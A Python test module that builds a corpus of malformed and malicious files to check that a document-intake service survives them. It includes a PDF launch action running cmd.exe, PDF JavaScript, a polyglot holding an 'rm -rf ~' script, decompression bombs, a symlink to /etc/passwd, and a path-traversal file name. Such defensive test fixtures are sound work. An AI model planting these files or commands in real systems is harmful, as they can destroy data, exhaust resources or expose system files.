"""The hostile corpus: bad files of every kind intake must survive, made on the spot.

    .venv/bin/python -m tests.hostile.make OUT

Each kind is one file (a few are not files at all: a named pipe, a symbolic link, a
folder). ``KINDS`` says for each what an honest outcome is: refused with one of the named
problem codes, or accepted (a strange but readable file), possibly with a page's own
problem. Nothing here is downloaded: every byte is written by this module.
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter

from tests import makefiles

ACCEPTED = "accepted"
"""Read: every page rendered, or a page's own problem recorded beside the others."""


@dataclass(frozen=True, slots=True)
class Kind:
    name: str
    file: str
    """The file's name in the batch (bytes where a name is itself the attack)."""
    make: Callable[[Path], None]
    outcomes: frozenset[str]
    """Honest outcomes: ``accepted`` and/or the problem codes a refusal may carry."""
    warns: str | None = None
    """A word the file's warnings must contain when it is accepted."""


def _outcomes(*codes: str) -> frozenset[str]:
    return frozenset(codes)


# ---------------------------------------------------------------- raw PDF building


def raw_pdf(objects: list[bytes], root: int = 1, extra_trailer: bytes = b"") -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, root, extra_trailer, xref)
    )
    return out.getvalue()


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data)) + data + b"\nendstream"


A4 = b"[0 0 595 842]"


def _page_pdf(
    content: bytes = b"BT /F1 24 Tf 72 760 Td (page) Tj ET", resources: bytes = b""
) -> list[bytes]:
    font = (
        b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> %s >>"
        % resources
    )
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents 4 0 R >>" % (A4, font),
        _stream(b"", content),
    ]


def _good_pdf(path: Path) -> None:
    path.write_bytes(_pdf_bytes(f"pdf {path.name.encode('utf-8', 'surrogateescape')!r}"))


def _good_png(path: Path) -> None:
    path.write_bytes(_png_bytes(label=f"png {path.name.encode('utf-8', 'surrogateescape')!r}"))


def _write(data: bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(data)

    return make


def _pdf_bytes(label: str = "pdf") -> bytes:
    buffer = io.BytesIO()
    makefiles.page_image(label).save(buffer, format="PDF", resolution=150)
    return buffer.getvalue()


def _png_bytes(size: tuple[int, int] = makefiles.A4_150, label: str = "png") -> bytes:
    buffer = io.BytesIO()
    makefiles.page_image(label, size).save(buffer, format="PNG", dpi=(150, 150))
    return buffer.getvalue()


def _jpeg_bytes(mode: str = "RGB") -> bytes:
    buffer = io.BytesIO()
    makefiles.page_image("jpeg").convert(mode).save(buffer, format="JPEG", dpi=(150, 150))
    return buffer.getvalue()


def _tiff_bytes() -> bytes:
    buffer = io.BytesIO()
    makefiles.page_image("tiff").convert("L").save(
        buffer, format="TIFF", compression="tiff_lzw", dpi=(150, 150)
    )
    return buffer.getvalue()


# ---------------------------------------------------------------- PDF attacks


def pdf_truncated(path: Path) -> None:
    data = _pdf_bytes()
    path.write_bytes(data[: len(data) // 2])


def pdf_header_only(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n")


def pdf_corrupt_body(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n" + os.urandom(20_000) + b"\n%%EOF\n")


def pdf_xref_lies(path: Path) -> None:
    """Every cross-reference offset points at the wrong place."""
    data = raw_pdf(_page_pdf())
    head, _, tail = data.partition(b"xref\n")
    lines = tail.split(b"\n")
    lines = [b"%010d 00000 n " % 999_999 if line.endswith(b" n ") else line for line in lines]
    path.write_bytes(head + b"xref\n" + b"\n".join(lines))


def pdf_startxref_beyond_end(path: Path) -> None:
    data = raw_pdf(_page_pdf())
    cut = data.rindex(b"startxref\n") + len(b"startxref\n")
    path.write_bytes(data[:cut] + b"99999999999\n%%EOF\n")


def pdf_encrypted(path: Path) -> None:
    makefiles.encrypted_pdf(path, "secret")


def pdf_owner_password_only(path: Path) -> None:
    makefiles.encrypted_pdf(path, "", owner_password="owner")


def pdf_javascript(path: Path) -> None:
    """Document-level JavaScript, also run on opening."""
    objects = _page_pdf()
    script = (
        b"<< /S /JavaScript /JS (app.alert('hi'); this.submitForm('http://example.invalid/');) >>"
    )
    objects[0] = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s /Names << /JavaScript << /Names "
        b"[(run) %s] >> >> >>" % (script, script)
    )
    path.write_bytes(raw_pdf(objects))


def pdf_launch_action(path: Path) -> None:
    objects = _page_pdf()
    objects[0] = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) "
        b"/Win << /F (cmd.exe) /P (/c calc) >> >> >>"
    )
    path.write_bytes(raw_pdf(objects))


def pdf_embedded_file(path: Path) -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("payload.exe", b"MZ" + os.urandom(2000))
    with path.open("wb") as out:
        writer.write(out)


def pdf_circular_page_tree(path: Path) -> None:
    """The page tree's only child is the tree itself."""
    path.write_bytes(
        raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
            ]
        )
    )


def pdf_circular_references(path: Path) -> None:
    """Objects that refer to each other in a ring, reached from the page's resources."""
    objects = _page_pdf(resources=b"/XObject << /X1 5 0 R >>")
    objects += [b"<< /Next 6 0 R >>", b"<< /Next 7 0 R >>", b"<< /Next 5 0 R >>"]
    path.write_bytes(raw_pdf(objects))


def pdf_deep_nesting(path: Path) -> None:
    """An array nested 200,000 deep in the page's resources and in its content."""
    depth = 200_000
    nested = b"[" * depth + b"]" * depth
    objects = _page_pdf(content=nested + b" BT /F1 24 Tf 72 760 Td (deep) Tj ET")
    objects[2] = objects[2].replace(b"/Contents 4 0 R", b"/Contents 4 0 R /Junk " + nested)
    path.write_bytes(raw_pdf(objects))


def pdf_claims_100000_pages(path: Path) -> None:
    objects = _page_pdf()
    objects[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 100000 >>"
    path.write_bytes(raw_pdf(objects))


def pdf_100000_page_refs(path: Path) -> None:
    """A page tree listing the same page 100,000 times."""
    objects = _page_pdf()
    kids = b" ".join([b"3 0 R"] * 100_000)
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % kids
    path.write_bytes(raw_pdf(objects))


def pdf_no_pages(path: Path) -> None:
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    path.write_bytes(raw_pdf(objects))


def pdf_flate_bomb(path: Path) -> None:
    """A content stream of 2 MB that inflates to 2 GB of white space."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    body = b"".join(compressor.compress(chunk) for _ in range(2048)) + compressor.flush()
    objects = _page_pdf()
    objects[3] = _stream(b"/Filter /FlateDecode", body)
    path.write_bytes(raw_pdf(objects))


def pdf_image_bomb(path: Path) -> None:
    """An image that claims 200,000 × 200,000 pixels from a few kilobytes."""
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(b"\x00" * (1 << 20)) for _ in range(8))
    body += compressor.flush()
    image = _stream(
        b"/Type /XObject /Subtype /Image /Width 200000 /Height 200000 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode",
        body,
    )
    objects = _page_pdf(
        content=b"q 595 0 0 842 0 0 cm /Im1 Do Q", resources=b"/XObject << /Im1 5 0 R >>"
    )
    objects.append(image)
    path.write_bytes(raw_pdf(objects))


def pdf_broken_image_stream(path: Path) -> None:
    image = _stream(
        b"/Type /XObject /Subtype /Image /Width 1000 /Height 1000 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /DCTDecode",
        b"\xff\xd8\xff\xe0" + os.urandom(5000),
    )
    objects = _page_pdf(
        content=b"q 595 0 0 842 0 0 cm /Im1 Do Q", resources=b"/XObject << /Im1 5 0 R >>"
    )
    objects.append(image)
    path.write_bytes(raw_pdf(objects))


def pdf_absurd_page_size(path: Path) -> None:
    objects = _page_pdf()
    objects[2] = objects[2].replace(A4, b"[0 0 14400 14400] /UserUnit 75000")
    path.write_bytes(raw_pdf(objects))


def pdf_nonsense_mediabox(path: Path) -> None:
    objects = _page_pdf()
    objects[2] = objects[2].replace(A4, b"[0 0 -1e38 1e38]")
    path.write_bytes(raw_pdf(objects))


def pdf_tiny_page(path: Path) -> None:
    makefiles.blank_pdf(path, size_pt=(1, 1))


def pdf_many_objects(path: Path) -> None:
    """A valid page followed by 300,000 unused objects."""
    objects = _page_pdf() + [b"<< /N %d >>" % i for i in range(300_000)]
    path.write_bytes(raw_pdf(objects))


def pdf_with_zip_appended(path: Path) -> None:
    """A polyglot: a real PDF that is also a ZIP archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.sh", "#!/bin/sh\nrm -rf ~\n")
    path.write_bytes(_pdf_bytes() + buffer.getvalue())


def html_then_pdf(path: Path) -> None:
    """A polyglot: an HTML page that a browser shows, with a PDF inside its first kilobyte."""
    path.write_bytes(b"<html><script>alert(1)</script><!--\n" + _pdf_bytes() + b"\n--></html>")


# ---------------------------------------------------------------- image attacks


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, rows: bytes, colour: int = 0, depth: int = 8) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def png_claims_giant(path: Path) -> None:
    makefiles.png_claiming(path, 100_000, 100_000)


def png_real_bomb(path: Path) -> None:
    """11,000 × 10,000 grey pixels (110 MP, under the pixel limit) in about 110 kB."""
    width, height = 11_000, 10_000
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * width
    rows = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    path.write_bytes(_png(width, height, rows))


def png_truncated(path: Path) -> None:
    data = _png_bytes()
    path.write_bytes(data[: len(data) // 3])


def png_bad_checksums(path: Path) -> None:
    data = bytearray(_png_bytes())
    at = data.index(b"IDAT")
    for offset in range(at + 50, min(len(data) - 20, at + 5000), 97):
        data[offset] ^= 0x5A
    path.write_bytes(bytes(data))


def png_one_pixel(path: Path) -> None:
    Image.new("RGB", (1, 1), "white").save(path, format="PNG")


def png_extreme_aspect(path: Path) -> None:
    Image.new("L", (60_000, 2), 255).save(path, format="PNG")


def png_16_bit_alpha(path: Path) -> None:
    makefiles.png(path, mode="RGBA")


def png_no_image_data(path: Path) -> None:
    header = struct.pack(">IIBBBBB", 1240, 1754, 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IEND", b""))


def tiff_claims_giant(path: Path) -> None:
    """A TIFF header saying 100,000 × 100,000 pixels, strips of a few bytes."""
    entries = [
        (256, 4, 1, 100_000),  # ImageWidth
        (257, 4, 1, 100_000),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # Photometric: black is zero
        (273, 4, 1, 8),  # StripOffsets
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, 100_000),  # RowsPerStrip
        (279, 4, 1, 16),  # StripByteCounts
    ]
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        packed = struct.pack("<H", value) + b"\x00\x00" if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, count) + packed
    ifd += struct.pack("<I", 0)
    path.write_bytes(b"II*\x00" + struct.pack("<I", 24) + b"\x00" * 16 + ifd)


def tiff_circular_pages(path: Path) -> None:
    """A TIFF whose page list loops: the first page's 'next' is itself."""
    data = bytearray(_tiff_bytes())
    first = struct.unpack("<I", data[4:8])[0]
    count = struct.unpack("<H", data[first : first + 2])[0]
    next_at = first + 2 + 12 * count
    data[next_at : next_at + 4] = struct.pack("<I", first)
    path.write_bytes(bytes(data))


def tiff_too_many_pages(path: Path) -> None:
    frames = [Image.new("L", (8, 8), 255) for _ in range(400)]
    frames[0].save(path, format="TIFF", save_all=True, append_images=frames[1:])


def tiff_truncated(path: Path) -> None:
    data = _tiff_bytes()
    path.write_bytes(data[: len(data) // 2])


def jpeg_claims_giant(path: Path) -> None:
    """A JPEG whose frame header says 65,500 × 65,500 pixels."""
    data = bytearray(_jpeg_bytes())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    path.write_bytes(bytes(data))


def jpeg_truncated(path: Path) -> None:
    data = _jpeg_bytes()
    path.write_bytes(data[: len(data) // 2])


def jpeg_garbage(path: Path) -> None:
    path.write_bytes(b"\xff\xd8\xff\xe0" + os.urandom(30_000))


def jpeg_one_pixel(path: Path) -> None:
    Image.new("RGB", (1, 1), "white").save(path, format="JPEG")


def jpeg_cmyk(path: Path) -> None:
    path.write_bytes(_jpeg_bytes("CMYK"))


def jpeg_then_pdf(path: Path) -> None:
    """A polyglot: a real JPEG with a whole PDF after its end marker."""
    path.write_bytes(_jpeg_bytes() + _pdf_bytes())


# ---------------------------------------------------------------- not what they seem


def docx_as_pdf(path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    path.write_bytes(buffer.getvalue())


def gif_as_png(path: Path) -> None:
    buffer = io.BytesIO()
    makefiles.page_image("gif").convert("P").save(buffer, format="GIF")
    path.write_bytes(buffer.getvalue())


def executable_as_pdf(path: Path) -> None:
    path.write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + os.urandom(4000))


def sparse_2gb(path: Path) -> None:
    with path.open("wb") as out:
        out.write(b"%PDF-1.7\n")
        out.truncate(2 * 2**30)


def named_pipe(path: Path) -> None:
    os.mkfifo(path)


def symlink_outside(path: Path) -> None:
    path.symlink_to("/etc/passwd")


def folder_named_pdf(path: Path) -> None:
    path.mkdir()
    _good_pdf(path / "inside.pdf")


KINDS: tuple[Kind, ...] = (
    # PDF structure
    Kind(
        "pdf truncated",
        "pdf-truncated.pdf",
        pdf_truncated,
        _outcomes("truncated", "corrupt", ACCEPTED),
    ),
    Kind(
        "pdf header only", "pdf-header-only.pdf", pdf_header_only, _outcomes("truncated", "corrupt")
    ),
    Kind("pdf corrupt body", "pdf-corrupt.pdf", pdf_corrupt_body, _outcomes("corrupt")),
    Kind(
        "pdf cross-references lie",
        "pdf-xref-lies.pdf",
        pdf_xref_lies,
        _outcomes(ACCEPTED, "corrupt"),
    ),
    Kind(
        "pdf startxref past the end",
        "pdf-startxref.pdf",
        pdf_startxref_beyond_end,
        _outcomes(ACCEPTED, "corrupt"),
    ),
    Kind("pdf encrypted", "pdf-encrypted.pdf", pdf_encrypted, _outcomes("encrypted")),
    Kind(
        "pdf owner password only",
        "pdf-owner-password.pdf",
        pdf_owner_password_only,
        _outcomes(ACCEPTED),
    ),
    Kind(
        "pdf with JavaScript",
        "pdf-javascript.pdf",
        pdf_javascript,
        _outcomes(ACCEPTED),
        warns="JavaScript",
    ),
    Kind(
        "pdf with a launch action",
        "pdf-launch.pdf",
        pdf_launch_action,
        _outcomes(ACCEPTED),
        warns="program",
    ),
    Kind(
        "pdf with an embedded file",
        "pdf-embedded.pdf",
        pdf_embedded_file,
        _outcomes(ACCEPTED),
        warns="attached",
    ),
    Kind(
        "pdf circular page tree",
        "pdf-circular-tree.pdf",
        pdf_circular_page_tree,
        _outcomes("corrupt", ACCEPTED),
    ),
    Kind(
        "pdf circular references",
        "pdf-circular-refs.pdf",
        pdf_circular_references,
        _outcomes(ACCEPTED, "corrupt"),
    ),
    Kind(
        "pdf nested 200,000 deep",
        "pdf-deep.pdf",
        pdf_deep_nesting,
        _outcomes(ACCEPTED, "corrupt", "too_costly"),
    ),
    Kind(
        "pdf claims 100,000 pages",
        "pdf-claims-pages.pdf",
        pdf_claims_100000_pages,
        _outcomes(ACCEPTED, "too_many_pages", "corrupt"),
    ),
    Kind(
        "pdf lists 100,000 pages",
        "pdf-many-pages.pdf",
        pdf_100000_page_refs,
        _outcomes("too_many_pages", "corrupt"),
    ),
    Kind("pdf without pages", "pdf-no-pages.pdf", pdf_no_pages, _outcomes("corrupt")),
    Kind(
        "pdf stream bomb (2 GB)",
        "pdf-flate-bomb.pdf",
        pdf_flate_bomb,
        _outcomes(ACCEPTED, "too_costly", "corrupt"),
    ),
    Kind(
        "pdf image bomb (40 GP)",
        "pdf-image-bomb.pdf",
        pdf_image_bomb,
        _outcomes(ACCEPTED, "too_costly", "corrupt"),
    ),
    Kind("pdf broken image", "pdf-broken-image.pdf", pdf_broken_image_stream, _outcomes(ACCEPTED)),
    Kind("pdf absurd page size", "pdf-absurd-size.pdf", pdf_absurd_page_size, _outcomes(ACCEPTED)),
    Kind(
        "pdf nonsense media box",
        "pdf-nonsense-box.pdf",
        pdf_nonsense_mediabox,
        _outcomes(ACCEPTED, "corrupt"),
    ),
    Kind("pdf 1 pt page", "pdf-tiny-page.pdf", pdf_tiny_page, _outcomes(ACCEPTED)),
    Kind(
        "pdf 300,000 objects",
        "pdf-many-objects.pdf",
        pdf_many_objects,
        _outcomes(ACCEPTED, "corrupt", "too_costly"),
    ),
    Kind("polyglot pdf + zip", "polyglot-pdf-zip.pdf", pdf_with_zip_appended, _outcomes(ACCEPTED)),
    Kind(
        "polyglot html + pdf",
        "polyglot-html-pdf.html",
        html_then_pdf,
        _outcomes(ACCEPTED, "corrupt"),
    ),
    # images
    Kind("png claims 10 GP", "png-claims.png", png_claims_giant, _outcomes("decompression_bomb")),
    Kind(
        "png real bomb (110 MP in 110 kB)",
        "png-bomb.png",
        png_real_bomb,
        _outcomes(ACCEPTED, "decompression_bomb", "image_too_large", "too_costly"),
    ),
    Kind("png truncated", "png-truncated.png", png_truncated, _outcomes("truncated", "corrupt")),
    Kind(
        "png bad checksums",
        "png-checksums.png",
        png_bad_checksums,
        _outcomes("corrupt", "truncated"),
    ),
    Kind("png 1×1", "png-1x1.png", png_one_pixel, _outcomes("image_too_small")),
    Kind("png 60000×2", "png-aspect.png", png_extreme_aspect, _outcomes("image_too_small")),
    Kind("png with alpha", "png-alpha.png", png_16_bit_alpha, _outcomes(ACCEPTED)),
    Kind(
        "png without image data",
        "png-no-data.png",
        png_no_image_data,
        _outcomes("corrupt", "truncated"),
    ),
    Kind(
        "tiff claims 10 GP", "tiff-claims.tif", tiff_claims_giant, _outcomes("decompression_bomb")
    ),
    Kind(
        "tiff circular page list",
        "tiff-circular.tif",
        tiff_circular_pages,
        _outcomes(ACCEPTED, "corrupt"),
    ),
    Kind("tiff 400 pages", "tiff-pages.tif", tiff_too_many_pages, _outcomes("too_many_pages")),
    Kind("tiff truncated", "tiff-truncated.tif", tiff_truncated, _outcomes("truncated", "corrupt")),
    Kind(
        "jpeg claims 4 GP",
        "jpeg-claims.jpg",
        jpeg_claims_giant,
        _outcomes("decompression_bomb", "image_too_large"),
    ),
    Kind("jpeg truncated", "jpeg-truncated.jpg", jpeg_truncated, _outcomes("truncated", "corrupt")),
    Kind(
        "jpeg garbage after header",
        "jpeg-garbage.jpg",
        jpeg_garbage,
        _outcomes("corrupt", "truncated"),
    ),
    Kind("jpeg 1×1", "jpeg-1x1.jpg", jpeg_one_pixel, _outcomes("image_too_small")),
    Kind("jpeg CMYK", "jpeg-cmyk.jpg", jpeg_cmyk, _outcomes(ACCEPTED)),
    Kind("polyglot jpeg + pdf", "polyglot-jpeg-pdf.jpg", jpeg_then_pdf, _outcomes(ACCEPTED)),
    # not what they seem
    Kind("zero bytes (pdf)", "empty.pdf", _write(b""), _outcomes("empty")),
    Kind("zero bytes (jpeg)", "empty.jpg", _write(b""), _outcomes("empty")),
    Kind(
        "pdf named .jpg",
        "really-a-pdf.jpg",
        lambda p: p.write_bytes(_pdf_bytes()),
        _outcomes(ACCEPTED),
    ),
    Kind(
        "png named .pdf",
        "really-a-png.pdf",
        lambda p: p.write_bytes(_png_bytes()),
        _outcomes(ACCEPTED),
    ),
    Kind("word document named .pdf", "document.pdf", docx_as_pdf, _outcomes("unsupported_type")),
    Kind("gif named .png", "animation.png", gif_as_png, _outcomes("unsupported_type")),
    Kind("executable named .pdf", "invoice.pdf", executable_as_pdf, _outcomes("unsupported_type")),
    Kind("2 GB sparse file", "sparse.pdf", sparse_2gb, _outcomes("too_large")),
    Kind("named pipe", "pipe.pdf", named_pipe, _outcomes("unreadable")),
    Kind("symbolic link to /etc/passwd", "link.pdf", symlink_outside, _outcomes("unreadable")),
    Kind("folder named .pdf", "folder.pdf", folder_named_pdf, _outcomes("unreadable")),
    Kind("name not UTF-8", "\udcff\udcfe\udcba\udcd0.png", _good_png, _outcomes(ACCEPTED)),
    Kind(
        "name in GBK",
        "营业执照".encode("gbk").decode("utf-8", "surrogateescape") + ".pdf",
        _good_pdf,
        _outcomes(ACCEPTED),
    ),
    Kind(
        "name with ../ and controls",
        "..\\..\\etc\\passwd\x1b[31m\n.pdf",
        _good_pdf,
        _outcomes(ACCEPTED),
    ),
)


def make_all(out: Path) -> list[tuple[Kind, Path]]:
    out.mkdir(parents=True, exist_ok=True)
    made = []
    for kind in KINDS:
        path = out / kind.file
        kind.make(path)
        made.append((kind, path))
    return made


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for kind, path in make_all(target):
        print(f"{kind.name:<36} {path.name!r}")
